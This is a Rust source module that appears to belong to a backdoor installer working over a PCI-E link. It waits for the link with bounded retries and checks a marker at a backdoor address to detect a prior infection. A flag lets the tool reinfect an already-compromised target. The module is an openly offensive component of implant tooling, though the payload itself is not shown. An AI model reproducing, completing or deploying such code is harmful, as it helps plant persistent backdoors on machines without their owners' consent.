//! Endpoint supervisor. Waits for link readiness with bounded
//! retry and detects a prior infection before handing back an open
//! transport.

use std::time::Duration;

use tracing::{info, warn};

use crate::addr::{HEADER_MAGIC, BACKDOOR_ADDR};
use crate::error::{InstallError, TransportError};
use crate::transport::Transport;

pub const RETRY_WAIT: Duration = Duration::from_secs(1);

/// Bounded retry count so a permanently dead link fails instead of looping
/// forever; an unattended CLI run still needs an
/// exit path when there genuinely is no endpoint to wait for.
pub const MAX_RETRIES: u32 = 300;

/// Checks link readiness (one already-open transport) and whether the
/// target already carries a backdoor at `BACKDOOR_ADDR`. Returns `Ok(())`
/// if it is safe to proceed with installation.
pub fn check_endpoint<T: Transport>(dev: &mut T, allow_reinfect: bool) -> Result<(), InstallError> {
    let marker = dev.read(BACKDOOR_ADDR, 2)?;
    if marker.as_slice() == HEADER_MAGIC.as_slice() && !allow_reinfect {
        return Err(InstallError::AlreadyInfected);
    }
    Ok(())
}

/// Spins up `open_transport` until it succeeds or `MAX_RETRIES` is
/// exhausted, sleeping `RETRY_WAIT` between attempts on
/// `LinkNotReady`/`Timeout`/`BadCompletion`. Returns the already-infected
/// check's outcome folded into the result via [`check_endpoint`].
pub fn wait_for_endpoint<T, F>(mut open_transport: F, allow_reinfect: bool) -> Result<T, InstallError>
where
    T: Transport,
    F: FnMut() -> Result<T, TransportError>,
{
    info!("waiting for PCI-E link...");

    for attempt in 0..MAX_RETRIES {
        match open_transport() {
            Ok(mut dev) => {
                check_endpoint(&mut dev, allow_reinfect)?;
                info!("PCI-E link with target is up");
                return Ok(dev);
            }
            Err(e @ (TransportError::LinkNotReady | TransportError::Timeout)) => {
                warn!(attempt, error = %e, "link is not ready yet");
                std::thread::sleep(RETRY_WAIT);
            }
            Err(e @ TransportError::BadCompletion { .. }) => {
                warn!(attempt, error = %e, "bad completion opening link");
                std::thread::sleep(RETRY_WAIT);
            }
        }
    }

    Err(InstallError::Transport(TransportError::LinkNotReady))
}
